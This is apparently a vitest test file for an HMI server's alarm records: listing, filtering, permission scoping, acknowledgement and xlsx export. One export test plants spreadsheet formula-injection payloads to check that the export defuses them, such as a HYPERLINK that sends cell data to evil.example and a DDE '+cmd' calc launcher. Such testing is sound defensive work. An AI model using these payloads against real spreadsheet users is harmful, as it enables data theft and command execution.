import {
  AlarmType,
  ErrorCode,
  Perm,
  type AlarmAckReply,
  type AlarmRecordListReply,
  type AlarmRecordQuery,
} from '@hmi/domain';
import ExcelJS from 'exceljs';
import type { Insertable } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AlarmRecordsTable } from '../../db/tables/alarms.ts';
import { dataEvent } from '../history-store/index.ts';
import { createActiveUser, createSubAccount } from '../../../test/factories.ts';
import { startTestServer, type TestServer } from '../../../test/test-server.ts';
import { buildDevice, buildTemplate, setTemplateLimit } from '../device/device-test-factories.ts';
import { busRecorder, insertGroup, insertRule, recordsOf } from './alarm-test-helpers.ts';

/*
 * Alarm record calls: the list and the SPEC's alarm message list (filters, scope, paging), acknowledging
 * (permission, scope, responder), and the xlsx export (language, offset, limit). Records are inserted
 * directly, except where the engine's behaviour around an acknowledgement is checked.
 */
let server: TestServer;
let main: Awaited<ReturnType<typeof createActiveUser>>;
let token: string;
let teamId: number;
let templateId: number;
let speedTag: number;
let ruleId: number;
let groupA: number;
let groupB: number;
let d1: number;
let d2: number;
const ids: Record<string, number> = {};
const T0 = Date.UTC(2026, 0, 15, 12, 0, 0);

async function insertRecord(values: Partial<Insertable<AlarmRecordsTable>> & { device_id: number }) {
  const { id } = await server.app.db
    .insertInto('alarm_records')
    .values({
      team_id: teamId,
      rule_id: ruleId,
      rule_name: 'overspeed',
      group_id: groupA,
      level: 16,
      tag_id: speedTag,
      tag_name: 'speed',
      type: AlarmType.High,
      state: 4,
      content: 'speed high',
      value: '90',
      last_value: '70',
      times: 1,
      raised_at: T0,
      acked_at: null,
      acked_by: null,
      acked_by_name: null,
      recovered_at: T0 + 60_000,
      ...values,
    })
    .returning('id')
    .executeTakeFirstOrThrow();
  return id;
}

beforeAll(async () => {
  server = await startTestServer();
  main = await createActiveUser(server, { name: 'Alice' });
  token = main.tokens.token;
  teamId = main.profile.team_id;
  await setTemplateLimit(server, teamId, 10);
  const template = await buildTemplate(server, token);
  templateId = template.id;
  speedTag = template.tags.find((t) => t.name === 'speed')!.id;
  d1 = (await buildDevice(server, token, { template_id: templateId, name: 'Press_1' })).id;
  d2 = (await buildDevice(server, token, { template_id: templateId, name: 'Oven_2' })).id;
  groupA = await insertGroup(server, teamId, 'pressure');
  groupB = await insertGroup(server, teamId, 'heat');
  // A rule row for the records to point at; the engine never sees values here.
  const now = Date.now();
  ruleId = (
    await server.app.db
      .insertInto('alarm_rules')
      .values({
        team_id: teamId,
        template_id: templateId,
        group_id: groupA,
        name: 'overspeed',
        level: 16,
        tag_id: speedTag,
        type: AlarmType.High,
        value: '80',
        target: null,
        deviation: null,
        deadband: null,
        created_at: now,
        updated_at: now,
      })
      .returning('id')
      .executeTakeFirstOrThrow()
  ).id;
  ids.open1 = await insertRecord({ device_id: d1, state: 1, recovered_at: null, raised_at: T0 + 5000 });
  ids.acked1 = await insertRecord({
    device_id: d1,
    state: 2,
    recovered_at: null,
    raised_at: T0 + 4000,
    level: 8,
    acked_at: T0 + 4500,
    acked_by: main.profile.dbuser_id,
    acked_by_name: 'Alice',
    rule_id: null,
    rule_name: 'gone rule',
  });
  ids.rec1 = await insertRecord({ device_id: d1, raised_at: T0 + 3000, level: 2, content: 'Pump Dry run' });
  ids.open2 = await insertRecord({
    device_id: d2,
    state: 1,
    recovered_at: null,
    raised_at: T0 + 2000,
    group_id: groupB,
    level: 1,
    value: '18446744073709551615',
    last_value: '18446744073709551615',
  });
  ids.rec2 = await insertRecord({ device_id: d2, raised_at: T0 + 1000, group_id: groupB, level: 4 });
});
afterAll(async () => server?.close());

const list = (q: Record<string, string | number | boolean> = {}, t = token, path = '/alarm/record/list') => {
  const query = new URLSearchParams(Object.entries(q).map(([k, v]): [string, string] => [k, String(v)]));
  return server.call<AlarmRecordListReply>('GET', `${path}?${query}`, { token: t });
};
const idsOf = (r: { body: { data: AlarmRecordListReply } }) => r.body.data.list.map((x) => x.id);

describe('alarm record list', () => {
  it('lists the team records newest first with names, filtered by every field', async () => {
    const all = await list();
    expect(all.body.code).toBe(0);
    expect(idsOf(all)).toEqual([ids.open1, ids.acked1, ids.rec1, ids.open2, ids.rec2]);
    expect(all.body.data.total).toBe(5);
    expect(all.body.data.list[0]).toMatchObject({
      device_name: 'Press_1',
      group_name: 'pressure',
      state: 1,
      acked_by: null,
      rule_name: 'overspeed',
    });
    expect(all.body.data.list[1]).toMatchObject({ state: 2, acked_by: 'Alice', rule_id: null });
    expect(all.body.data.list[3]).toMatchObject({ value: '18446744073709551615', group_name: 'heat' });

    const cases: [AlarmRecordQuery, number[]][] = [
      [{ device_id: d2 }, [ids.open2!, ids.rec2!]],
      [{ group_id: groupB }, [ids.open2!, ids.rec2!]],
      [{ level: 16 }, [ids.open1!]],
      [{ level: 8 | 1 }, [ids.acked1!, ids.open2!]],
      [{ state: 1 }, [ids.open1!, ids.open2!]],
      [{ state: 2 }, [ids.acked1!]],
      [{ state: 4 }, [ids.rec1!, ids.rec2!]],
      [{ active: 'true' }, [ids.open1!, ids.acked1!, ids.open2!]],
      [{ from: T0 + 2000, to: T0 + 4000 }, [ids.acked1!, ids.rec1!, ids.open2!]],
      [{ search: 'dry RUN' }, [ids.rec1!]],
      [{ search: 'oven' }, [ids.open2!, ids.rec2!]],
      [{ search: '100%' }, []],
      [{ device_id: d1, state: 4, level: 2 }, [ids.rec1!]],
    ];
    for (const [q, expected] of cases) {
      const r = await list(q as Record<string, string | number>);
      expect(r.body.code, JSON.stringify(q)).toBe(0);
      expect(idsOf(r), JSON.stringify(q)).toEqual(expected);
      expect(r.body.data.total, JSON.stringify(q)).toBe(expected.length);
    }
    const page2 = await list({ page: 2, page_size: 2 });
    expect(idsOf(page2)).toEqual([ids.rec1, ids.open2]);
    expect(page2.body.data.total).toBe(5);
    expect((await list({ page: 9 })).body.data).toEqual({ list: [], total: 5 });
  });

  it('refuses bad filters (1006) and ids outside the team or scope (1003)', async () => {
    expect((await list({ state: 3 })).body.code).toBe(ErrorCode.E1006_BAD_PARAMETER);
    expect((await list({ level: 64 })).body.code).toBe(ErrorCode.E1006_BAD_PARAMETER);
    const other = await createActiveUser(server);
    const foreignGroup = await insertGroup(server, other.profile.team_id);
    expect((await list({ group_id: foreignGroup })).body.code).toBe(ErrorCode.E1003_NO_DATA);
    expect((await list({ device_id: d1 }, other.tokens.token)).body.code).toBe(ErrorCode.E1003_NO_DATA);
    const theirs = await list({}, other.tokens.token, '/alarm/template/web/message/list');
    expect(theirs.body.data).toEqual({ list: [], total: 0 });
  });

  it('needs the alarm permission (44); the message list only a signed-in user, both limited to the scope', async () => {
    const plain = await createSubAccount(server, main, { permissions: [], deviceIds: [d2] });
    expect((await list({}, plain.tokens.token)).body.code).toBe(ErrorCode.E1002_PERMISSION_DENIED);
    const messages = await list({}, plain.tokens.token, '/alarm/template/web/message/list');
    expect(messages.body.code).toBe(0);
    expect(idsOf(messages)).toEqual([ids.open2, ids.rec2]);
    expect(
      (await list({ device_id: d1 }, plain.tokens.token, '/alarm/template/web/message/list')).body.code,
    ).toBe(ErrorCode.E1003_NO_DATA);
    const alarm = await createSubAccount(server, main, { permissions: [Perm.DeviceAlarm], deviceIds: [d1] });
    expect(idsOf(await list({}, alarm.tokens.token))).toEqual([ids.open1, ids.acked1, ids.rec1]);
    expect((await server.call('GET', '/alarm/record/list')).status).toBe(401);
    expect((await server.call('GET', '/alarm/template/web/message/list')).status).toBe(401);
  });
});

describe('acknowledging', () => {
  const ack = (recordIds: number[], t = token) =>
    server.call<AlarmAckReply>('POST', '/alarm/record/ack', { token: t, body: { ids: recordIds } });

  it('acknowledges open and recovered records once, as the caller, and publishes it', async () => {
    const a = await insertRecord({
      device_id: d1,
      state: 1,
      recovered_at: null,
      rule_id: null,
      rule_name: 'x1',
    });
    const b = await insertRecord({ device_id: d1, rule_name: 'x2' });
    const bus = busRecorder(server);
    const before = Date.now();
    const r = await ack([a, b, a]);
    expect(r.body).toMatchObject({ code: 0, data: { acked: 2 } });
    const rows = await server.app.db
      .selectFrom('alarm_records')
      .selectAll()
      .where('id', 'in', [a, b])
      .orderBy('id')
      .execute();
    expect(rows.map((x) => [x.state, x.acked_by, x.acked_by_name])).toEqual([
      [2, main.profile.dbuser_id, 'Alice'],
      [4, main.profile.dbuser_id, 'Alice'],
    ]);
    expect(rows[0]!.acked_at).toBeGreaterThanOrEqual(before);
    expect(bus.alarms.map((e) => [e.event, e.record.id, e.record.state, e.record.acked_by])).toEqual([
      ['acked', a, 2, 'Alice'],
      ['acked', b, 4, 'Alice'],
    ]);
    expect(bus.alarms[0]!.userIds).toContain(main.profile.dbuser_id);

    // Again, by someone else: nothing changes, the first responder stays.
    const sub = await createSubAccount(server, main, { permissions: [Perm.DeviceAlarm], deviceIds: [d1] });
    expect((await ack([a], sub.tokens.token)).body.data.acked).toBe(0);
    const again = await server.app.db
      .selectFrom('alarm_records')
      .select('acked_by_name')
      .where('id', '=', a)
      .executeTakeFirstOrThrow();
    expect(again.acked_by_name).toBe('Alice');
    expect(bus.alarms).toHaveLength(2);
    bus.stop();
  });

  it("keeps the responder's comment with the records acknowledged now and returns it with them", async () => {
    const a = await insertRecord({
      device_id: d1,
      state: 1,
      recovered_at: null,
      rule_id: null,
      rule_name: 'c1',
    });
    const b = await insertRecord({
      device_id: d1,
      state: 1,
      recovered_at: null,
      rule_id: null,
      rule_name: 'c2',
    });
    const bus = busRecorder(server);
    const comment = 'Valve V3 closed by hand, maintenance called';
    const r = await server.call<AlarmAckReply>('POST', '/alarm/record/ack', {
      token,
      body: { ids: [a], comment: `  ${comment}  ` },
    });
    expect(r.body).toMatchObject({ code: 0, data: { acked: 1 } });
    expect(bus.alarms.map((e) => [e.record.id, e.record.ack_comment])).toEqual([[a, comment]]);
    bus.stop();
    // Without one (or blank): none. A later acknowledgement of the same record changes nothing.
    await ack([b]);
    await server.call('POST', '/alarm/record/ack', { token, body: { ids: [a], comment: 'second' } });
    const byId = new Map((await list({ page_size: 200 })).body.data.list.map((x) => [x.id, x]));
    expect(byId.get(a)).toMatchObject({ state: 2, acked_by: 'Alice', ack_comment: comment });
    expect(byId.get(b)).toMatchObject({ state: 2, ack_comment: null });
    expect(byId.get(ids.open1!)).toMatchObject({ ack_comment: null });
    const blank = await insertRecord({
      device_id: d1,
      state: 1,
      recovered_at: null,
      rule_id: null,
      rule_name: 'c3',
    });
    await server.call('POST', '/alarm/record/ack', { token, body: { ids: [blank], comment: '   ' } });
    expect(
      (await list({ page_size: 200 })).body.data.list.find((x) => x.id === blank)?.ack_comment,
    ).toBeNull();
  });

  it.each([
    ['more than 200 characters', 'x'.repeat(201)],
    ['a control character', 'closed\u0007'],
    ['a line break', 'closed\nby hand'],
    ['a lone surrogate', 'closed \ud800'],
    ['not text', 42],
  ])('refuses a comment with %s (1006) and acknowledges nothing', async (_what, comment) => {
    const a = await insertRecord({
      device_id: d1,
      state: 1,
      recovered_at: null,
      rule_id: null,
      rule_name: 'c4',
    });
    const r = await server.call('POST', '/alarm/record/ack', { token, body: { ids: [a], comment } });
    expect(r.body.code).toBe(ErrorCode.E1006_BAD_PARAMETER);
    const row = await server.app.db
      .selectFrom('alarm_records')
      .select(['state', 'acked_at', 'ack_comment'])
      .where('id', '=', a)
      .executeTakeFirstOrThrow();
    expect(row).toEqual({ state: 1, acked_at: null, ack_comment: null });
  });

  it('takes a comment of exactly 200 characters, any language', async () => {
    const a = await insertRecord({
      device_id: d1,
      state: 1,
      recovered_at: null,
      rule_id: null,
      rule_name: 'c5',
    });
    const comment = '阀门已手动关闭'.repeat(28) + 'abcd';
    expect(comment).toHaveLength(200);
    const r = await server.call('POST', '/alarm/record/ack', { token, body: { ids: [a], comment } });
    expect(r.body.code).toBe(0);
    expect((await list({ page_size: 200 })).body.data.list.find((x) => x.id === a)?.ack_comment).toBe(
      comment,
    );
  });

  it('refuses ids outside the scope or the team (1003) and acknowledges none of the batch', async () => {
    const mine = await insertRecord({
      device_id: d1,
      state: 1,
      recovered_at: null,
      rule_id: null,
      rule_name: 'y1',
    });
    const elsewhere = (await buildDevice(server, token, { template_id: templateId })).id;
    const hidden = await insertRecord({
      device_id: elsewhere,
      state: 1,
      recovered_at: null,
      rule_id: null,
      rule_name: 'y2',
    });
    const sub = await createSubAccount(server, main, { permissions: [Perm.DeviceAlarm], deviceIds: [d1] });
    const r = await ack([mine, hidden], sub.tokens.token);
    expect(r.status).toBe(404);
    expect(r.body.code).toBe(ErrorCode.E1003_NO_DATA);
    const other = await createActiveUser(server);
    expect((await ack([mine], other.tokens.token)).body.code).toBe(ErrorCode.E1003_NO_DATA);
    expect((await ack([999_999_999])).body.code).toBe(ErrorCode.E1003_NO_DATA);
    const rows = await server.app.db
      .selectFrom('alarm_records')
      .select(['state', 'acked_at'])
      .where('id', 'in', [mine, hidden])
      .execute();
    expect(rows.every((x) => x.state === 1 && x.acked_at === null)).toBe(true);
    const noPerm = await createSubAccount(server, main, { permissions: [], deviceIds: [d1] });
    expect((await ack([mine], noPerm.tokens.token)).body.code).toBe(ErrorCode.E1002_PERMISSION_DENIED);
    expect((await server.call('POST', '/alarm/record/ack', { token, body: { ids: [] } })).body.code).toBe(
      ErrorCode.E1006_BAD_PARAMETER,
    );
  });

  it('an acknowledged alarm still repeats and recovers (values through the bus)', async () => {
    const d3 = (await buildDevice(server, token, { template_id: templateId })).id;
    const rule = await insertRule(server, {
      teamId,
      templateId,
      tagId: speedTag,
      type: AlarmType.High,
      value: '50',
      deadband: '10',
    });
    const value = async (ts: number, v: number) => {
      server.app.bus.publish('device.data', dataEvent(d3, teamId, [{ tagId: speedTag, ts, value: v }]));
      await server.app.services.alarmEngine.idle();
    };
    await value(T0, 60);
    const [raised] = await recordsOf(server, d3);
    expect(raised).toMatchObject({ rule_id: rule, state: 1 });
    await ack([raised!.id]);
    await value(T0 + 1, 45); // deadband
    await value(T0 + 2, 55); // repeat
    expect(await recordsOf(server, d3)).toMatchObject([{ state: 2, times: 2, acked_by_name: 'Alice' }]);
    await value(T0 + 3, 39); // recover
    expect(await recordsOf(server, d3)).toMatchObject([
      { state: 4, times: 2, recovered_at: T0 + 3, acked_by_name: 'Alice' },
    ]);
  });
});

describe('AskAlarms export', () => {
  const exportXlsx = async (body: object, t = token) => {
    const res = await fetch(`${server.url}/v1/alarm/template/web/AskAlarms`, {
      method: 'POST',
      headers: { authorization: t, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
    return res;
  };
  const load = async (res: Response) => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await res.arrayBuffer());
    return book.worksheets[0]!;
  };

  it('writes the filtered records with headers in the caller language and times in their offset', async () => {
    await server.app.db
      .updateTable('users')
      .set({ lang: 'zh-cn' })
      .where('id', '=', main.profile.dbuser_id)
      .execute();
    const res = await exportXlsx({ device_id: d2, tz: 8 });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('spreadsheetml');
    expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="alarms-\d+\.xlsx"/);
    expect(res.headers.get('x-total-count')).toBe('2');
    const sheet = await load(res);
    expect(sheet.name).toBe('报警记录');
    const header = sheet.getRow(1).values as unknown[];
    expect(header.slice(1, 4)).toEqual(['报警时间 (UTC+08:00)', '设备', '报警名称']);
    expect(sheet.rowCount).toBe(3);
    const row = sheet.getRow(2);
    expect((row.getCell(1).value as Date).getTime()).toBe(T0 + 2000 + 8 * 3600_000);
    expect(row.getCell(2).value).toBe('Oven_2');
    expect(row.getCell(4).value).toBe('heat');
    expect(row.getCell(5).value).toBe('提示');
    expect(row.getCell(6).value).toBe('上限');
    expect(row.getCell(8).value).toBe('报警');
    expect(row.getCell(10).value).toBe('18446744073709551615');
    expect(row.getCell(15).value).toBeNull();
    const recovered = sheet.getRow(3);
    expect(recovered.getCell(8).value).toBe('已恢复');
    expect((recovered.getCell(15).value as Date).getTime()).toBe(T0 + 60_000 + 8 * 3600_000);

    await server.app.db
      .updateTable('users')
      .set({ lang: 'en-us' })
      .where('id', '=', main.profile.dbuser_id)
      .execute();
    const west = await load(await exportXlsx({ state: 4, tz: -5.5, device_id: d2 }));
    expect(west.getRow(1).getCell(1).value).toBe('Raised at (UTC-05:30)');
    expect(west.rowCount).toBe(2);
    expect((west.getRow(2).getCell(1).value as Date).getTime()).toBe(T0 + 1000 - 5.5 * 3600_000);
    expect(west.getRow(2).getCell(8).value).toBe('Recovered');
  });

  it('defuses text a spreadsheet would take for a formula; values stay as they are', async () => {
    const d3 = (await buildDevice(server, token, { template_id: templateId })).id;
    const link = '=HYPERLINK("https://evil.example/?"&A1,"open")';
    await insertRecord({
      device_id: d3,
      rule_name: link,
      tag_name: '@SUM(A1:A9)',
      content: '+cmd|" /C calc"!A0',
      value: '-5',
      last_value: '-2+3',
    });
    const row = (await load(await exportXlsx({ device_id: d3, tz: 0 }))).getRow(2);
    expect(row.getCell(3).value).toBe(`'${link}`);
    expect(row.getCell(7).value).toBe("'@SUM(A1:A9)");
    expect(row.getCell(9).value).toBe(`'+cmd|" /C calc"!A0`);
    expect(row.getCell(10).value).toBe('-5');
    expect(row.getCell(11).value).toBe("'-2+3");
    expect(row.getCell(12).value).toBe(1);
  });

  it('is limited to the scope, refuses bad input, and holds at most the newest 10,000 records', async () => {
    const plain = await createSubAccount(server, main, { permissions: [], deviceIds: [d2] });
    const scoped = await load(await exportXlsx({ tz: 0 }, plain.tokens.token));
    expect(scoped.rowCount).toBe(3);
    expect((await exportXlsx({ tz: 20 })).status).toBe(400);
    expect((await exportXlsx({ device_id: d1, tz: 0 }, plain.tokens.token)).status).toBe(404);

    const d4 = (await buildDevice(server, token, { template_id: templateId })).id;
    const rows = Array.from({ length: 10_005 }, (_, i) => i);
    for (let i = 0; i < rows.length; i += 500) {
      await server.app.db
        .insertInto('alarm_records')
        .values(
          rows.slice(i, i + 500).map((n) => ({
            team_id: teamId,
            device_id: d4,
            rule_id: null,
            rule_name: `bulk ${n}`,
            group_id: null,
            level: 1,
            tag_id: speedTag,
            tag_name: 'speed',
            type: AlarmType.High,
            state: 4,
            content: '',
            value: String(n),
            last_value: String(n),
            times: 1,
            raised_at: T0 + n,
            recovered_at: T0 + n + 1,
          })),
        )
        .execute();
    }
    const res = await exportXlsx({ device_id: d4, tz: 0 });
    expect(res.headers.get('x-total-count')).toBe('10005');
    expect(res.headers.get('x-exported-count')).toBe('10000');
    const sheet = await load(res);
    expect(sheet.rowCount).toBe(10_001);
    expect(sheet.getRow(2).getCell(3).value).toBe('bulk 10004');
    expect(sheet.getRow(10_001).getCell(3).value).toBe('bulk 5');
  }, 60_000);
});
